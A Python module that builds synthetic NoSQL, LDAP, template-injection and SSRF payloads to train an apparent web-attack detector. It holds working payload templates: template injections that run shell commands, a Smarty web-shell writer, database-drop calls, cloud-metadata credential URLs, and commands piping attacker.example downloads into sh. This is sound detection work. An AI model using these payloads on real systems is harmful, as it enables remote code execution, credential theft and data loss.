"""Attack payloads written from grammars, for the thin classes (`--synth-payloads`).

The builder keeps few payload records of some classes: 58 NoSQL, 21 LDAP, 243 SSTI and 282 SSRF, of which the split
holds some out by template. A model that sees each training payload in 70 requests learns those strings, and a
held-out payload of another form is missed whole (a class's test figure moves by templates: bench/RESULTS.md, "Where
0.11.0's errors sit"). These grammars write the same attacks in more forms: each family is one way the attack works
(an operator in a bracketed form key, a filter that closes and reopens, a template expression that reaches the
interpreter, a URL that names a host inside the network), and its slots (field names, operators, commands, engines,
address spellings) are drawn from the values the attacks themselves use, not from any evaluation suite.

The records go to the training split only: the held-out test and evasion files stay byte for byte those of the
corpus built without the flag. A drawn string equal to a payload of either split is dropped, and so is one whose
template (split.payload_group) is a held-out group's: no copy or near-copy of a held-out payload enters training.
The schedule (engine.corpus.plan.schedule) gives every payload record of a class as many
requests, so a class's share of grammar-written payloads is bounded by count (SYNTH_PER_REAL, MIN_PER_CLASS): in
`share` mode the data's own payloads keep 26 % of NoSQL's requests, 13 % of LDAP's, 42 % of SSTI's and 52 % of SSRF's;
in `extra` mode they keep all of theirs and the grammars' requests come on top, as many as they took in `share`.

Measured (bench/RESULTS.md, "Payloads written from grammars" and "The grammar payloads on top of the data's own"):
among the class's requests (`share`, candidate 0.22.0) these forms did not lift the held-out figures of their classes
(LDAP fell, as the data's own short strings lost requests); on top of them (`extra`, engine.corpus.build.add_synthetic;
candidate 0.22.1) LDAP, SSRF and NoSQL gained at matched rates, a second draw (0.22.2) did not repeat the overall
gain, and neither shipped. The default corpus is built without the flag.
"""

from __future__ import annotations

from typing import Callable
from urllib.parse import quote

from engine.corpus import split
from engine.corpus.rand import Rng

VARIANTS = 48  # distinct strings drawn per family (fewer when a family's grammar is small)
GROUPS_PER_FAMILY = 4
SYNTH_PER_REAL, MIN_PER_CLASS = 3, 120
SOURCE = "synth"

FIELDS = ["username", "user", "login", "email", "password", "pass", "pwd", "id", "user_id", "token", "name", "role", "account",
          "search", "filter", "q", "sku", "order_id"]  # fmt: skip
CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "hostname", "cat /etc/shadow", "env", "ps aux",
        "curl http://attacker.example/x.sh|sh", "wget -qO- http://203.0.113.7/p|sh", "nslookup $(whoami).attacker.example",
        "sleep 7", "ping -c 3 203.0.113.9", "type C:\\Windows\\win.ini", "net user"]  # fmt: skip
FILES = ["/etc/passwd", "/etc/hosts", "/proc/self/environ", "/var/www/html/config.php", "C:/Windows/win.ini", "/root/.ssh/id_rsa",
         "/app/.env", "WEB-INF/web.xml"]  # fmt: skip


def _q(rng: Rng) -> str:
    return rng.pick(["'", '"'])


# ---- NoSQL (MongoDB operators and server-side JavaScript) --------------------------------------------------------

NOSQL_OPS = ["$ne", "$gt", "$gte", "$lt", "$lte", "$regex", "$nin", "$exists", "$in", "$not", "$where", "$expr"]
NOSQL_VALUES = ["", "1", "0", "null", "a", ".*", "^a", "^adm", "x", "true", "-1", "undefined", "{}", "[]"]


def nosql_bracket_form(rng: Rng) -> tuple[str, str]:
    pairs = []
    for field in rng.sample(FIELDS[:8], rng.randrange(1, 4)):
        op = rng.pick(NOSQL_OPS[:9])
        val = rng.pick([".*", "^a", "a.*", "^ad", ".{%d}" % rng.randrange(1, 9)]) if op == "$regex" else rng.pick(NOSQL_VALUES[:11])
        pairs.append(f"{field}[{op}]={val}")
    return "&".join(pairs), "body"


def nosql_bracket_value(rng: Rng) -> tuple[str, str]:
    op = rng.pick(NOSQL_OPS[:9])
    return rng.pick([f"[{op}]={rng.pick(NOSQL_VALUES[:8])}", f"[{op}]", f"{rng.pick(FIELDS)}[{op}]={rng.pick(NOSQL_VALUES[:8])}"]), "param"


def _json_op(rng: Rng, quoted: bool) -> str:
    op = rng.pick(NOSQL_OPS)
    k = f'"{op}"' if quoted else op
    if op == "$regex":
        v = f'"{rng.pick([".*", "^a", "^adm", "a.*", "^.{8}$"])}"'
    elif op in ("$in", "$nin"):
        v = "[" + ", ".join(f'"{w}"' for w in rng.sample(["admin", "root", "", "administrator", "test", "user"], rng.randrange(1, 4))) + "]"
    elif op == "$where":
        v = '"' + rng.pick(["1 == 1", "sleep(5000)", "this.password.length > 0", "return true", "this.role == 'admin'"]) + '"'
    elif op == "$expr":
        v = rng.pick(['{"$eq": [1, 1]}', '{"$gt": ["$balance", 0]}'] + ([] if quoted else ["{$eq: [1, 1]}"]))
    elif op == "$not":
        v = rng.pick(['{"$eq": ""}', '{"$regex": "^$"}'] + ([] if quoted else ["{$size: 0}"]))
    else:
        v = rng.pick(['""', "null", "1", "0", "true", "false", '"x"', "-1", "{}"] + ([] if quoted else ["undefined"]))
    return f"{{{k}: {v}}}" if rng.chance(0.5) else f"{{{k}:{v}}}"


def nosql_json_body(rng: Rng) -> tuple[str, str]:
    fields = rng.sample(FIELDS[:9], rng.randrange(1, 4))
    parts = [f'"{f}": {_json_op(rng, True)}' if rng.chance(0.8) else f'"{f}": "{rng.pick(["admin", "alice", "root"])}"' for f in fields]
    if all("$" not in p for p in parts):
        parts[0] = f'"{fields[0]}": {_json_op(rng, True)}'
    return "{" + ", ".join(parts) + "}", "body"


def nosql_json_value(rng: Rng) -> tuple[str, str]:
    return _json_op(rng, rng.chance(0.6)), "param"


def nosql_where_js(rng: Rng) -> tuple[str, str]:
    f, q = rng.pick(FIELDS[:8]), _q(rng)
    body = rng.pick([f"this.{f}.match(/.*/)", f"this.{f}.length > 0", "true", f"this.{f} != {q}{q}", "1==1",
                     f"this.{f}[0] == {q}a{q}", "sleep(5000)", "Object.keys(this).length > 0"])  # fmt: skip
    return rng.pick([
        f"$where: {q}{body}{q}",
        f"{q}; return {body}; var z={q}",
        f"{q} && {body} && {q}1{q}=={q}1",
        f"{q} || {body} || {q}",
        f"{rng.randrange(0, 9)}; return {body}",
        f"function() {{ return {body}; }}",
        f"{q}, $where: {q}{body}",
    ]), "param"  # fmt: skip


def nosql_js_timing(rng: Rng) -> tuple[str, str]:
    q, n = _q(rng), rng.pick([3000, 5000, 10000, 2000])
    return rng.pick([
        f"{q};sleep({n});{q}",
        f"{q}; sleep({n}); var x={q}",
        f"{q};var d=new Date();do{{var c=new Date();}}while(c-d<{n});{q}",
        f"1;sleep({n})",
        f"{q} || sleep({n}) || {q}",
    ]), "param"  # fmt: skip


def nosql_boolean(rng: Rng) -> tuple[str, str]:
    q, a = _q(rng), rng.pick(["a", "1", "x", "admin"])
    return rng.pick([
        f"{q} || {q}{a}{q}=={q}{a}",
        f"{rng.pick(['admin', 'root', 'alice'])}{q} || {q}{a}{q}=={q}{a}",
        f"{q} || 1==1//",
        f"{q} || true || {q}",
        f"{q}) || (1==1",
        f"{q} && this.{rng.pick(FIELDS[:8])}.match(/^{rng.pick(['a', 'p', '.'])}.*/)//",
    ]), "param"  # fmt: skip


def nosql_db_calls(rng: Rng) -> tuple[str, str]:
    coll, q = rng.pick(["users", "accounts", "sessions", "orders", "injection"]), _q(rng)
    call = rng.pick([f"db.{coll}.find()", "db.getCollectionNames()", f"db.{coll}.drop()", f"db.{coll}.remove({{}})",
                     f"db.{coll}.insert({{admin: true}})", "db.version()", f"db.{coll}.findOne()", "db.dropDatabase()"])  # fmt: skip
    return rng.pick([call, f"{q}; {call}; var a={q}", f"{q});{call};//", f"1; {call}; return 1"]), "param"


def nosql_aggregation(rng: Rng) -> tuple[str, str]:
    doc = rng.pick([
        '[{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]',
        '{"$function": {"body": "function() { return true }", "args": [], "lang": "js"}}',
        '{"$accumulator": {"init": "function() { return sleep(5000) }", "lang": "js"}}',
        '[{"$match": {"password": {"$regex": "^a"}}}]',
        '{"$or": [{}, {"a": "a"}]}',
        "', $or: [ {}, { 'a':'a",
        '{"filter": {"$where": "sleep(5000) || true"}}',
    ])  # fmt: skip
    return doc, ("body" if doc.startswith(("{", "[")) and rng.chance(0.5) else "param")


# ---- LDAP filter injection ----------------------------------------------------------------------------------------

LDAP_ATTRS = ["uid", "cn", "mail", "sn", "objectClass", "userPassword", "description", "givenName", "memberOf", "sAMAccountName",
              "telephoneNumber", "ou"]  # fmt: skip
LDAP_USERS = ["admin", "administrator", "root", "alice", "jsmith", "*"]


def ldap_break_out(rng: Rng) -> tuple[str, str]:
    a, b, u = rng.pick(LDAP_ATTRS), rng.pick(LDAP_ATTRS), rng.pick(LDAP_USERS)
    return rng.pick([
        f"*)({a}=*))(|({a}=*", f"{u})(|({a}=*))", f"*)(|({a}=*)", f"{u})(&)", f"{u})(!({a}=*))", f"*)({a}=*", f"{u}*)(|({b}=*",
        f"{u})({b}=*)(|(cn=*", f"*))(|({a}=*", f"{u})(|(objectClass=*)", f"{u})(&({a}=*)({b}=*))",
    ]), "param"  # fmt: skip


def ldap_null(rng: Rng) -> tuple[str, str]:
    a, u = rng.pick(LDAP_ATTRS), rng.pick(LDAP_USERS)
    return rng.pick([f"{u})%00", f"{u})({a}=*))%00", f"*))%00", f"{u}))\\00", f"{u})(|({a}=*))\x00"]), "param"


def ldap_filters(rng: Rng) -> tuple[str, str]:
    a, b, u = rng.pick(LDAP_ATTRS), rng.pick(LDAP_ATTRS), rng.pick(LDAP_USERS)
    return rng.pick([
        f"(|({a}=*)(uid={u}))", f"(&(uid={u})(userPassword=*))", f"(|(objectClass=*)({a}=*))", f"*(|({a}=*))",
        f"(&({a}=*)(!({b}=x)))", f"{u})(!(&(1=0", f"(&)(uid={u})", f"(|(uid=*)(cn=*))",
    ]), "param"  # fmt: skip


def ldap_blind(rng: Rng) -> tuple[str, str]:
    a, u, c = rng.pick(LDAP_ATTRS), rng.pick(LDAP_USERS[:5]), rng.pick("abcdefmps0123")
    return rng.pick([f"*)({a}={c}*", f"{u})(userPassword={c}*", f"{u})(|(userPassword={c}*))", f"{u})({a}={c}*)(|(cn=*",
                     f"*)(description={c}*))(|(cn=*"]), "param"  # fmt: skip


def ldap_encoded(rng: Rng) -> tuple[str, str]:
    raw, _ = rng.call(lambda: ldap_break_out(rng), lambda: ldap_filters(rng), lambda: ldap_blind(rng))
    return (quote(raw, safe="") if rng.chance(0.6) else quote(raw, safe="*")), "param"


# ---- server-side template injection ------------------------------------------------------------------------------


def _arith(rng: Rng) -> str:
    return f"{rng.randrange(2, 99)}*{rng.randrange(2, 99)}"


def ssti_probe(rng: Rng) -> tuple[str, str]:
    e = _arith(rng)
    return rng.pick([f"{{{{{e}}}}}", f"{{{{ {e} }}}}", f"${{{e}}}", f"#{{{e}}}", f"<%= {e} %>", f"${{{{{e}}}}}", f"*{{{e}}}",
                     f"@({e})", f"{{{{{e}}}}}${{{e}}}<%= {e} %>", f"[[${{{e}}}]]", f"{{{e}}}"]), "param"  # fmt: skip


JINJA_ROOTS = ["''.__class__.__mro__[1]", "''.__class__.__base__", "().__class__.__base__", "[].__class__.__base__",
               "request.__class__.__mro__[1]", "self.__class__.__mro__[1]"]  # fmt: skip
JINJA_GLOBALS = ["cycler.__init__.__globals__", "joiner.__init__.__globals__", "namespace.__init__.__globals__",
                 "lipsum.__globals__", "url_for.__globals__", "get_flashed_messages.__globals__",
                 "self._TemplateReference__context.cycler.__init__.__globals__", "request.application.__globals__"]  # fmt: skip


def ssti_jinja(rng: Rng) -> tuple[str, str]:
    cmd, f = rng.pick(CMDS), rng.pick(FILES)
    return rng.pick([
        f"{{{{ {rng.pick(JINJA_ROOTS)}.__subclasses__() }}}}",
        f"{{{{ {rng.pick(JINJA_ROOTS)}.__subclasses__()[{rng.randrange(40, 420)}]('{cmd}', shell=True, stdout=-1).communicate() }}}}",
        f"{{{{ {rng.pick(JINJA_GLOBALS)}.os.popen('{cmd}').read() }}}}",
        f"{{{{ {rng.pick(JINJA_GLOBALS)}['__builtins__']['open']('{f}').read() }}}}",
        f"{{{{ {rng.pick(JINJA_GLOBALS)}.__builtins__.__import__('os').popen('{cmd}').read() }}}}",
        f"{{% for c in {rng.pick(JINJA_ROOTS)}.__subclasses__() %}}{{% if c.__name__ == 'Popen' %}}{{{{ c('{cmd}', shell=True, stdout=-1).communicate() }}}}{{% endif %}}{{% endfor %}}",
        f"{{{{ config.items() }}}}", f"{{{{ config['SECRET_KEY'] }}}}", "{{ request.environ }}", "{{ settings.SECRET_KEY }}",
        f"{{{{ ''|attr('__class__')|attr('__mro__') }}}}", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        f"{{% set x = {rng.pick(JINJA_GLOBALS)}.os %}}{{{{ x.popen('{cmd}').read() }}}}",
        f"{{% import os %}}{{{{ os.popen('{cmd}').read() }}}}",
    ]), "param"  # fmt: skip


def ssti_twig(rng: Rng) -> tuple[str, str]:
    cmd, fn = rng.pick(CMDS), rng.pick(["system", "exec", "shell_exec", "passthru", "popen"])
    return rng.pick([
        f"{{{{_self.env.registerUndefinedFilterCallback('{fn}')}}}}{{{{_self.env.getFilter('{cmd}')}}}}",
        f"{{{{ ['{cmd}']|filter('{fn}') }}}}", f"{{{{ ['{cmd}']|map('{fn}')|join }}}}", f"{{{{ ['{cmd}', 1]|sort('{fn}') }}}}",
        f"{{{{ ['{cmd}']|reduce('{fn}') }}}}", f"{{{{ '{rng.pick(FILES)}'|file_excerpt(1, 30) }}}}", "{{ dump(app) }}", "{{ app.request.server.all|join(',') }}",
    ]), "param"  # fmt: skip


def ssti_java(rng: Rng) -> tuple[str, str]:
    cmd = rng.pick(CMDS)
    return rng.pick([
        f'<#assign ex="freemarker.template.utility.Execute"?new()>${{ex("{cmd}")}}',
        f'${{"freemarker.template.utility.Execute"?new()("{cmd}")}}',
        f'[#assign x="freemarker.template.utility.ObjectConstructor"?new()]${{x("java.lang.ProcessBuilder", "{cmd}").start()}}',
        f'#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("{cmd}"))$x.waitFor()',
        f'#set($s="")#set($rt=$s.getClass().forName("java.lang.Runtime"))$rt.getRuntime().exec("{cmd}")',
        f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"*{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f'__${{T(java.lang.Runtime).getRuntime().exec("{cmd}")}}__::.x',
        f"${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{cmd}').getInputStream()).next()}}",
        f"${{product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('{rng.pick(FILES)}')}}",
    ]), "param"  # fmt: skip


def ssti_ruby_python(rng: Rng) -> tuple[str, str]:
    cmd, f = rng.pick(CMDS), rng.pick(FILES)
    return rng.pick([
        f"<%= system('{cmd}') %>", f"<%= `{cmd}` %>", f"<%= File.open('{f}').read %>", f"<%= IO.popen('{cmd}').readlines() %>",
        f'${{self.module.cache.util.os.system("{cmd}")}}', f"<% import os; x = os.popen('{cmd}').read() %>${{x}}",
        f'${{__import__("os").popen("{cmd}").read()}}', f"{{% import os %}}{{{{ os.popen(\"{cmd}\").read() }}}}",
        f"#{{root.process.mainModule.require('child_process').execSync('{cmd}')}}",
        f"{{{{ this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{cmd}') }}}}",
    ]), "param"  # fmt: skip


def ssti_php_dotnet(rng: Rng) -> tuple[str, str]:
    cmd = rng.pick(CMDS)
    return rng.pick([
        f"{{php}}system('{cmd}');{{/php}}", f"{{system('{cmd}')}}", f"{{{{passthru('{cmd}')}}}}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        f'@(System.Diagnostics.Process.Start("cmd.exe", "/c {cmd}"))', f"@{{ var p = System.Diagnostics.Process.Start(\"{cmd}\"); }}",
        f"{{$smarty.version}}{{system('{cmd}')}}",
    ]), "param"  # fmt: skip


# ---- SSRF: URLs that name a host inside the network -------------------------------------------------------------

LOOPBACK = ["127.0.0.1", "localhost", "127.1", "127.0.1", "0.0.0.0", "0", "2130706433", "0x7f000001", "0177.0.0.1", "017700000001",
            "[::1]", "[::]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::ffff:7f00:1]", "127.255.255.254", "0x7f.0.0.1", "localhost.localdomain"]  # fmt: skip
METADATA = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[fd00:ec2::254]", "metadata.google.internal",
            "100.100.100.200", "169.254.170.2", "[::ffff:a9fe:a9fe]"]  # fmt: skip
METADATA_PATHS = ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data",
                  "/computeMetadata/v1/instance/service-accounts/default/token", "/metadata/instance?api-version=2021-02-01",
                  "/latest/api/token", "/v2/credentials/", "/openstack/latest/meta_data.json", "/metadata/v1/"]  # fmt: skip
INTERNAL_SERVICES = [":6379/", ":11211/", ":2375/containers/json", ":8500/v1/agent/self", ":9200/_cat/indices", ":10250/pods",
                     ":8080/manager/html", "/server-status", ":5984/_all_dbs", "/actuator/env", ":2379/v2/keys", ":8001/api/v1/secrets",
                     ":3306/", ":22/", ":25/", "/admin", ":9000/", ":15672/api/users"]  # fmt: skip


def _private(rng: Rng) -> str:
    return rng.pick([f"10.{rng.randrange(0, 256)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}",
                     f"192.168.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}",
                     f"172.{rng.randrange(16, 32)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}",
                     rng.pick(["kubernetes.default.svc", "redis.internal", "admin.internal", "db.local", "consul.service.consul"])])  # fmt: skip


def ssrf_metadata(rng: Rng) -> tuple[str, str]:
    return f"{rng.pick(['http', 'http', 'https'])}://{rng.pick(METADATA)}{rng.pick(METADATA_PATHS)}", "param"


def ssrf_loopback(rng: Rng) -> tuple[str, str]:
    host = rng.pick(LOOPBACK)
    return f"{rng.pick(['http', 'http', 'https'])}://{host}{rng.pick(INTERNAL_SERVICES + ['/', '', '/admin/', '/internal/config'])}", "param"


def ssrf_private(rng: Rng) -> tuple[str, str]:
    return f"http://{_private(rng)}{rng.pick(INTERNAL_SERVICES)}", "param"


def ssrf_schemes(rng: Rng) -> tuple[str, str]:
    host = rng.pick(LOOPBACK[:6] + [_private(rng)])
    return rng.pick([
        f"gopher://{host}:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", f"gopher://{host}:25/_HELO%20attacker.example",
        f"dict://{host}:11211/stats", f"dict://{host}:6379/info", f"file://{rng.pick(FILES)}", f"file:///{rng.pick(FILES).lstrip('/')}",
        f"ldap://{host}:389/%0astats%0aquit", f"tftp://{host}:69/x", f"sftp://{host}:22/", f"netdoc://{rng.pick(FILES)}",
        f"jar:http://{host}/x.jar!/", f"php://filter/convert.base64-encode/resource=http://{host}/",
    ]), "param"  # fmt: skip


def ssrf_confusion(rng: Rng) -> tuple[str, str]:
    inner = rng.pick(LOOPBACK[:5] + METADATA[:2])
    pub = rng.pick(["example.com", "images.example.org", "cdn.example.net", "trusted.example"])
    return rng.pick([
        f"http://{pub}@{inner}/", f"http://{inner}#@{pub}/", f"http://{inner}%2523@{pub}/", f"http://{pub}.{inner}.nip.io/",
        f"http://{inner}:80\\@{pub}/", f"http://{inner}%00.{pub}/", f"https://{pub}/redirect?url=http://{inner}/",
        f"http://{inner}.nip.io{rng.pick(METADATA_PATHS)}", f"//{inner}{rng.pick(INTERNAL_SERVICES)}",
    ]), "param"  # fmt: skip


Family = Callable[[Rng], tuple[str, str]]
FAMILIES: dict[str, dict[str, Family]] = {
    "nosqli": {"bracket_form": nosql_bracket_form, "bracket_value": nosql_bracket_value, "json_body": nosql_json_body,
               "json_value": nosql_json_value, "where_js": nosql_where_js, "js_timing": nosql_js_timing,
               "boolean": nosql_boolean, "db_calls": nosql_db_calls, "aggregation": nosql_aggregation},
    "ldapi": {"break_out": ldap_break_out, "null": ldap_null, "filters": ldap_filters, "blind": ldap_blind, "encoded": ldap_encoded},
    "ssti": {"probe": ssti_probe, "jinja": ssti_jinja, "twig": ssti_twig, "java": ssti_java, "ruby_python": ssti_ruby_python,
             "php_dotnet": ssti_php_dotnet},
    "ssrf": {"metadata": ssrf_metadata, "loopback": ssrf_loopback, "private": ssrf_private, "schemes": ssrf_schemes,
             "confusion": ssrf_confusion},
}  # fmt: skip


def records(seed: int, taken: set[str], real: dict[str, int] | None = None,
            held_out: frozenset[str] | set[str] = frozenset()) -> dict[str, list[dict]]:
    """Class → payload records drawn from the grammars (same seed, same records), none of whose strings is in
    `taken` and none whose template (engine.corpus.split.payload_group: the string with numbers, case and encodings
    gone) is one of the `held_out` groups: a near-copy of a held-out payload would leak it into training.
    With `real` (class → the training split's own payload count) a class gets at most SYNTH_PER_REAL times
    its own count and at least MIN_PER_CLASS, taken from its families in turn: the schedule gives every record as
    many requests, so this bounds the grammars' share of the class and keeps the data's own payloads in it."""
    out: dict[str, list[dict]] = {}
    for cls, families in FAMILIES.items():
        drawn = [_family(Rng(seed, "synth", cls, fam), cls, make, taken, held_out) for fam, make in families.items()]
        limit = sum(map(len, drawn)) if real is None else max(MIN_PER_CLASS, SYNTH_PER_REAL * real.get(cls, 0))
        recs = out[cls] = []
        for depth in range(VARIANTS):
            for fam, variants in zip(families, drawn):
                if depth < len(variants) and len(recs) < limit:
                    payload, context = variants[depth]
                    recs.append({"payload": payload, "label": "attack", "attack_class": cls, "context": context, "source": SOURCE,
                                 "source_path": f"{cls}:{fam}", "group": f"{cls}:synth:{fam}:{depth % GROUPS_PER_FAMILY}"})  # fmt: skip
    return out


def _family(rng: Rng, cls: str, make: Family, taken: set[str], held_out: frozenset[str] | set[str]) -> list[tuple[str, str]]:
    """Up to VARIANTS distinct (payload, context) pairs of one family, in the order drawn; none in `taken`, none a
    near-copy of a held-out payload (its template key a `held_out` group)."""
    seen: dict[str, str] = {}
    for _ in range(VARIANTS * 6):
        if len(seen) >= VARIANTS:
            break
        payload, context = make(rng)
        if payload in seen or payload in taken or split.payload_group({"attack_class": cls, "payload": payload}) in held_out:
            continue
        seen[payload] = context
    return list(seen.items())
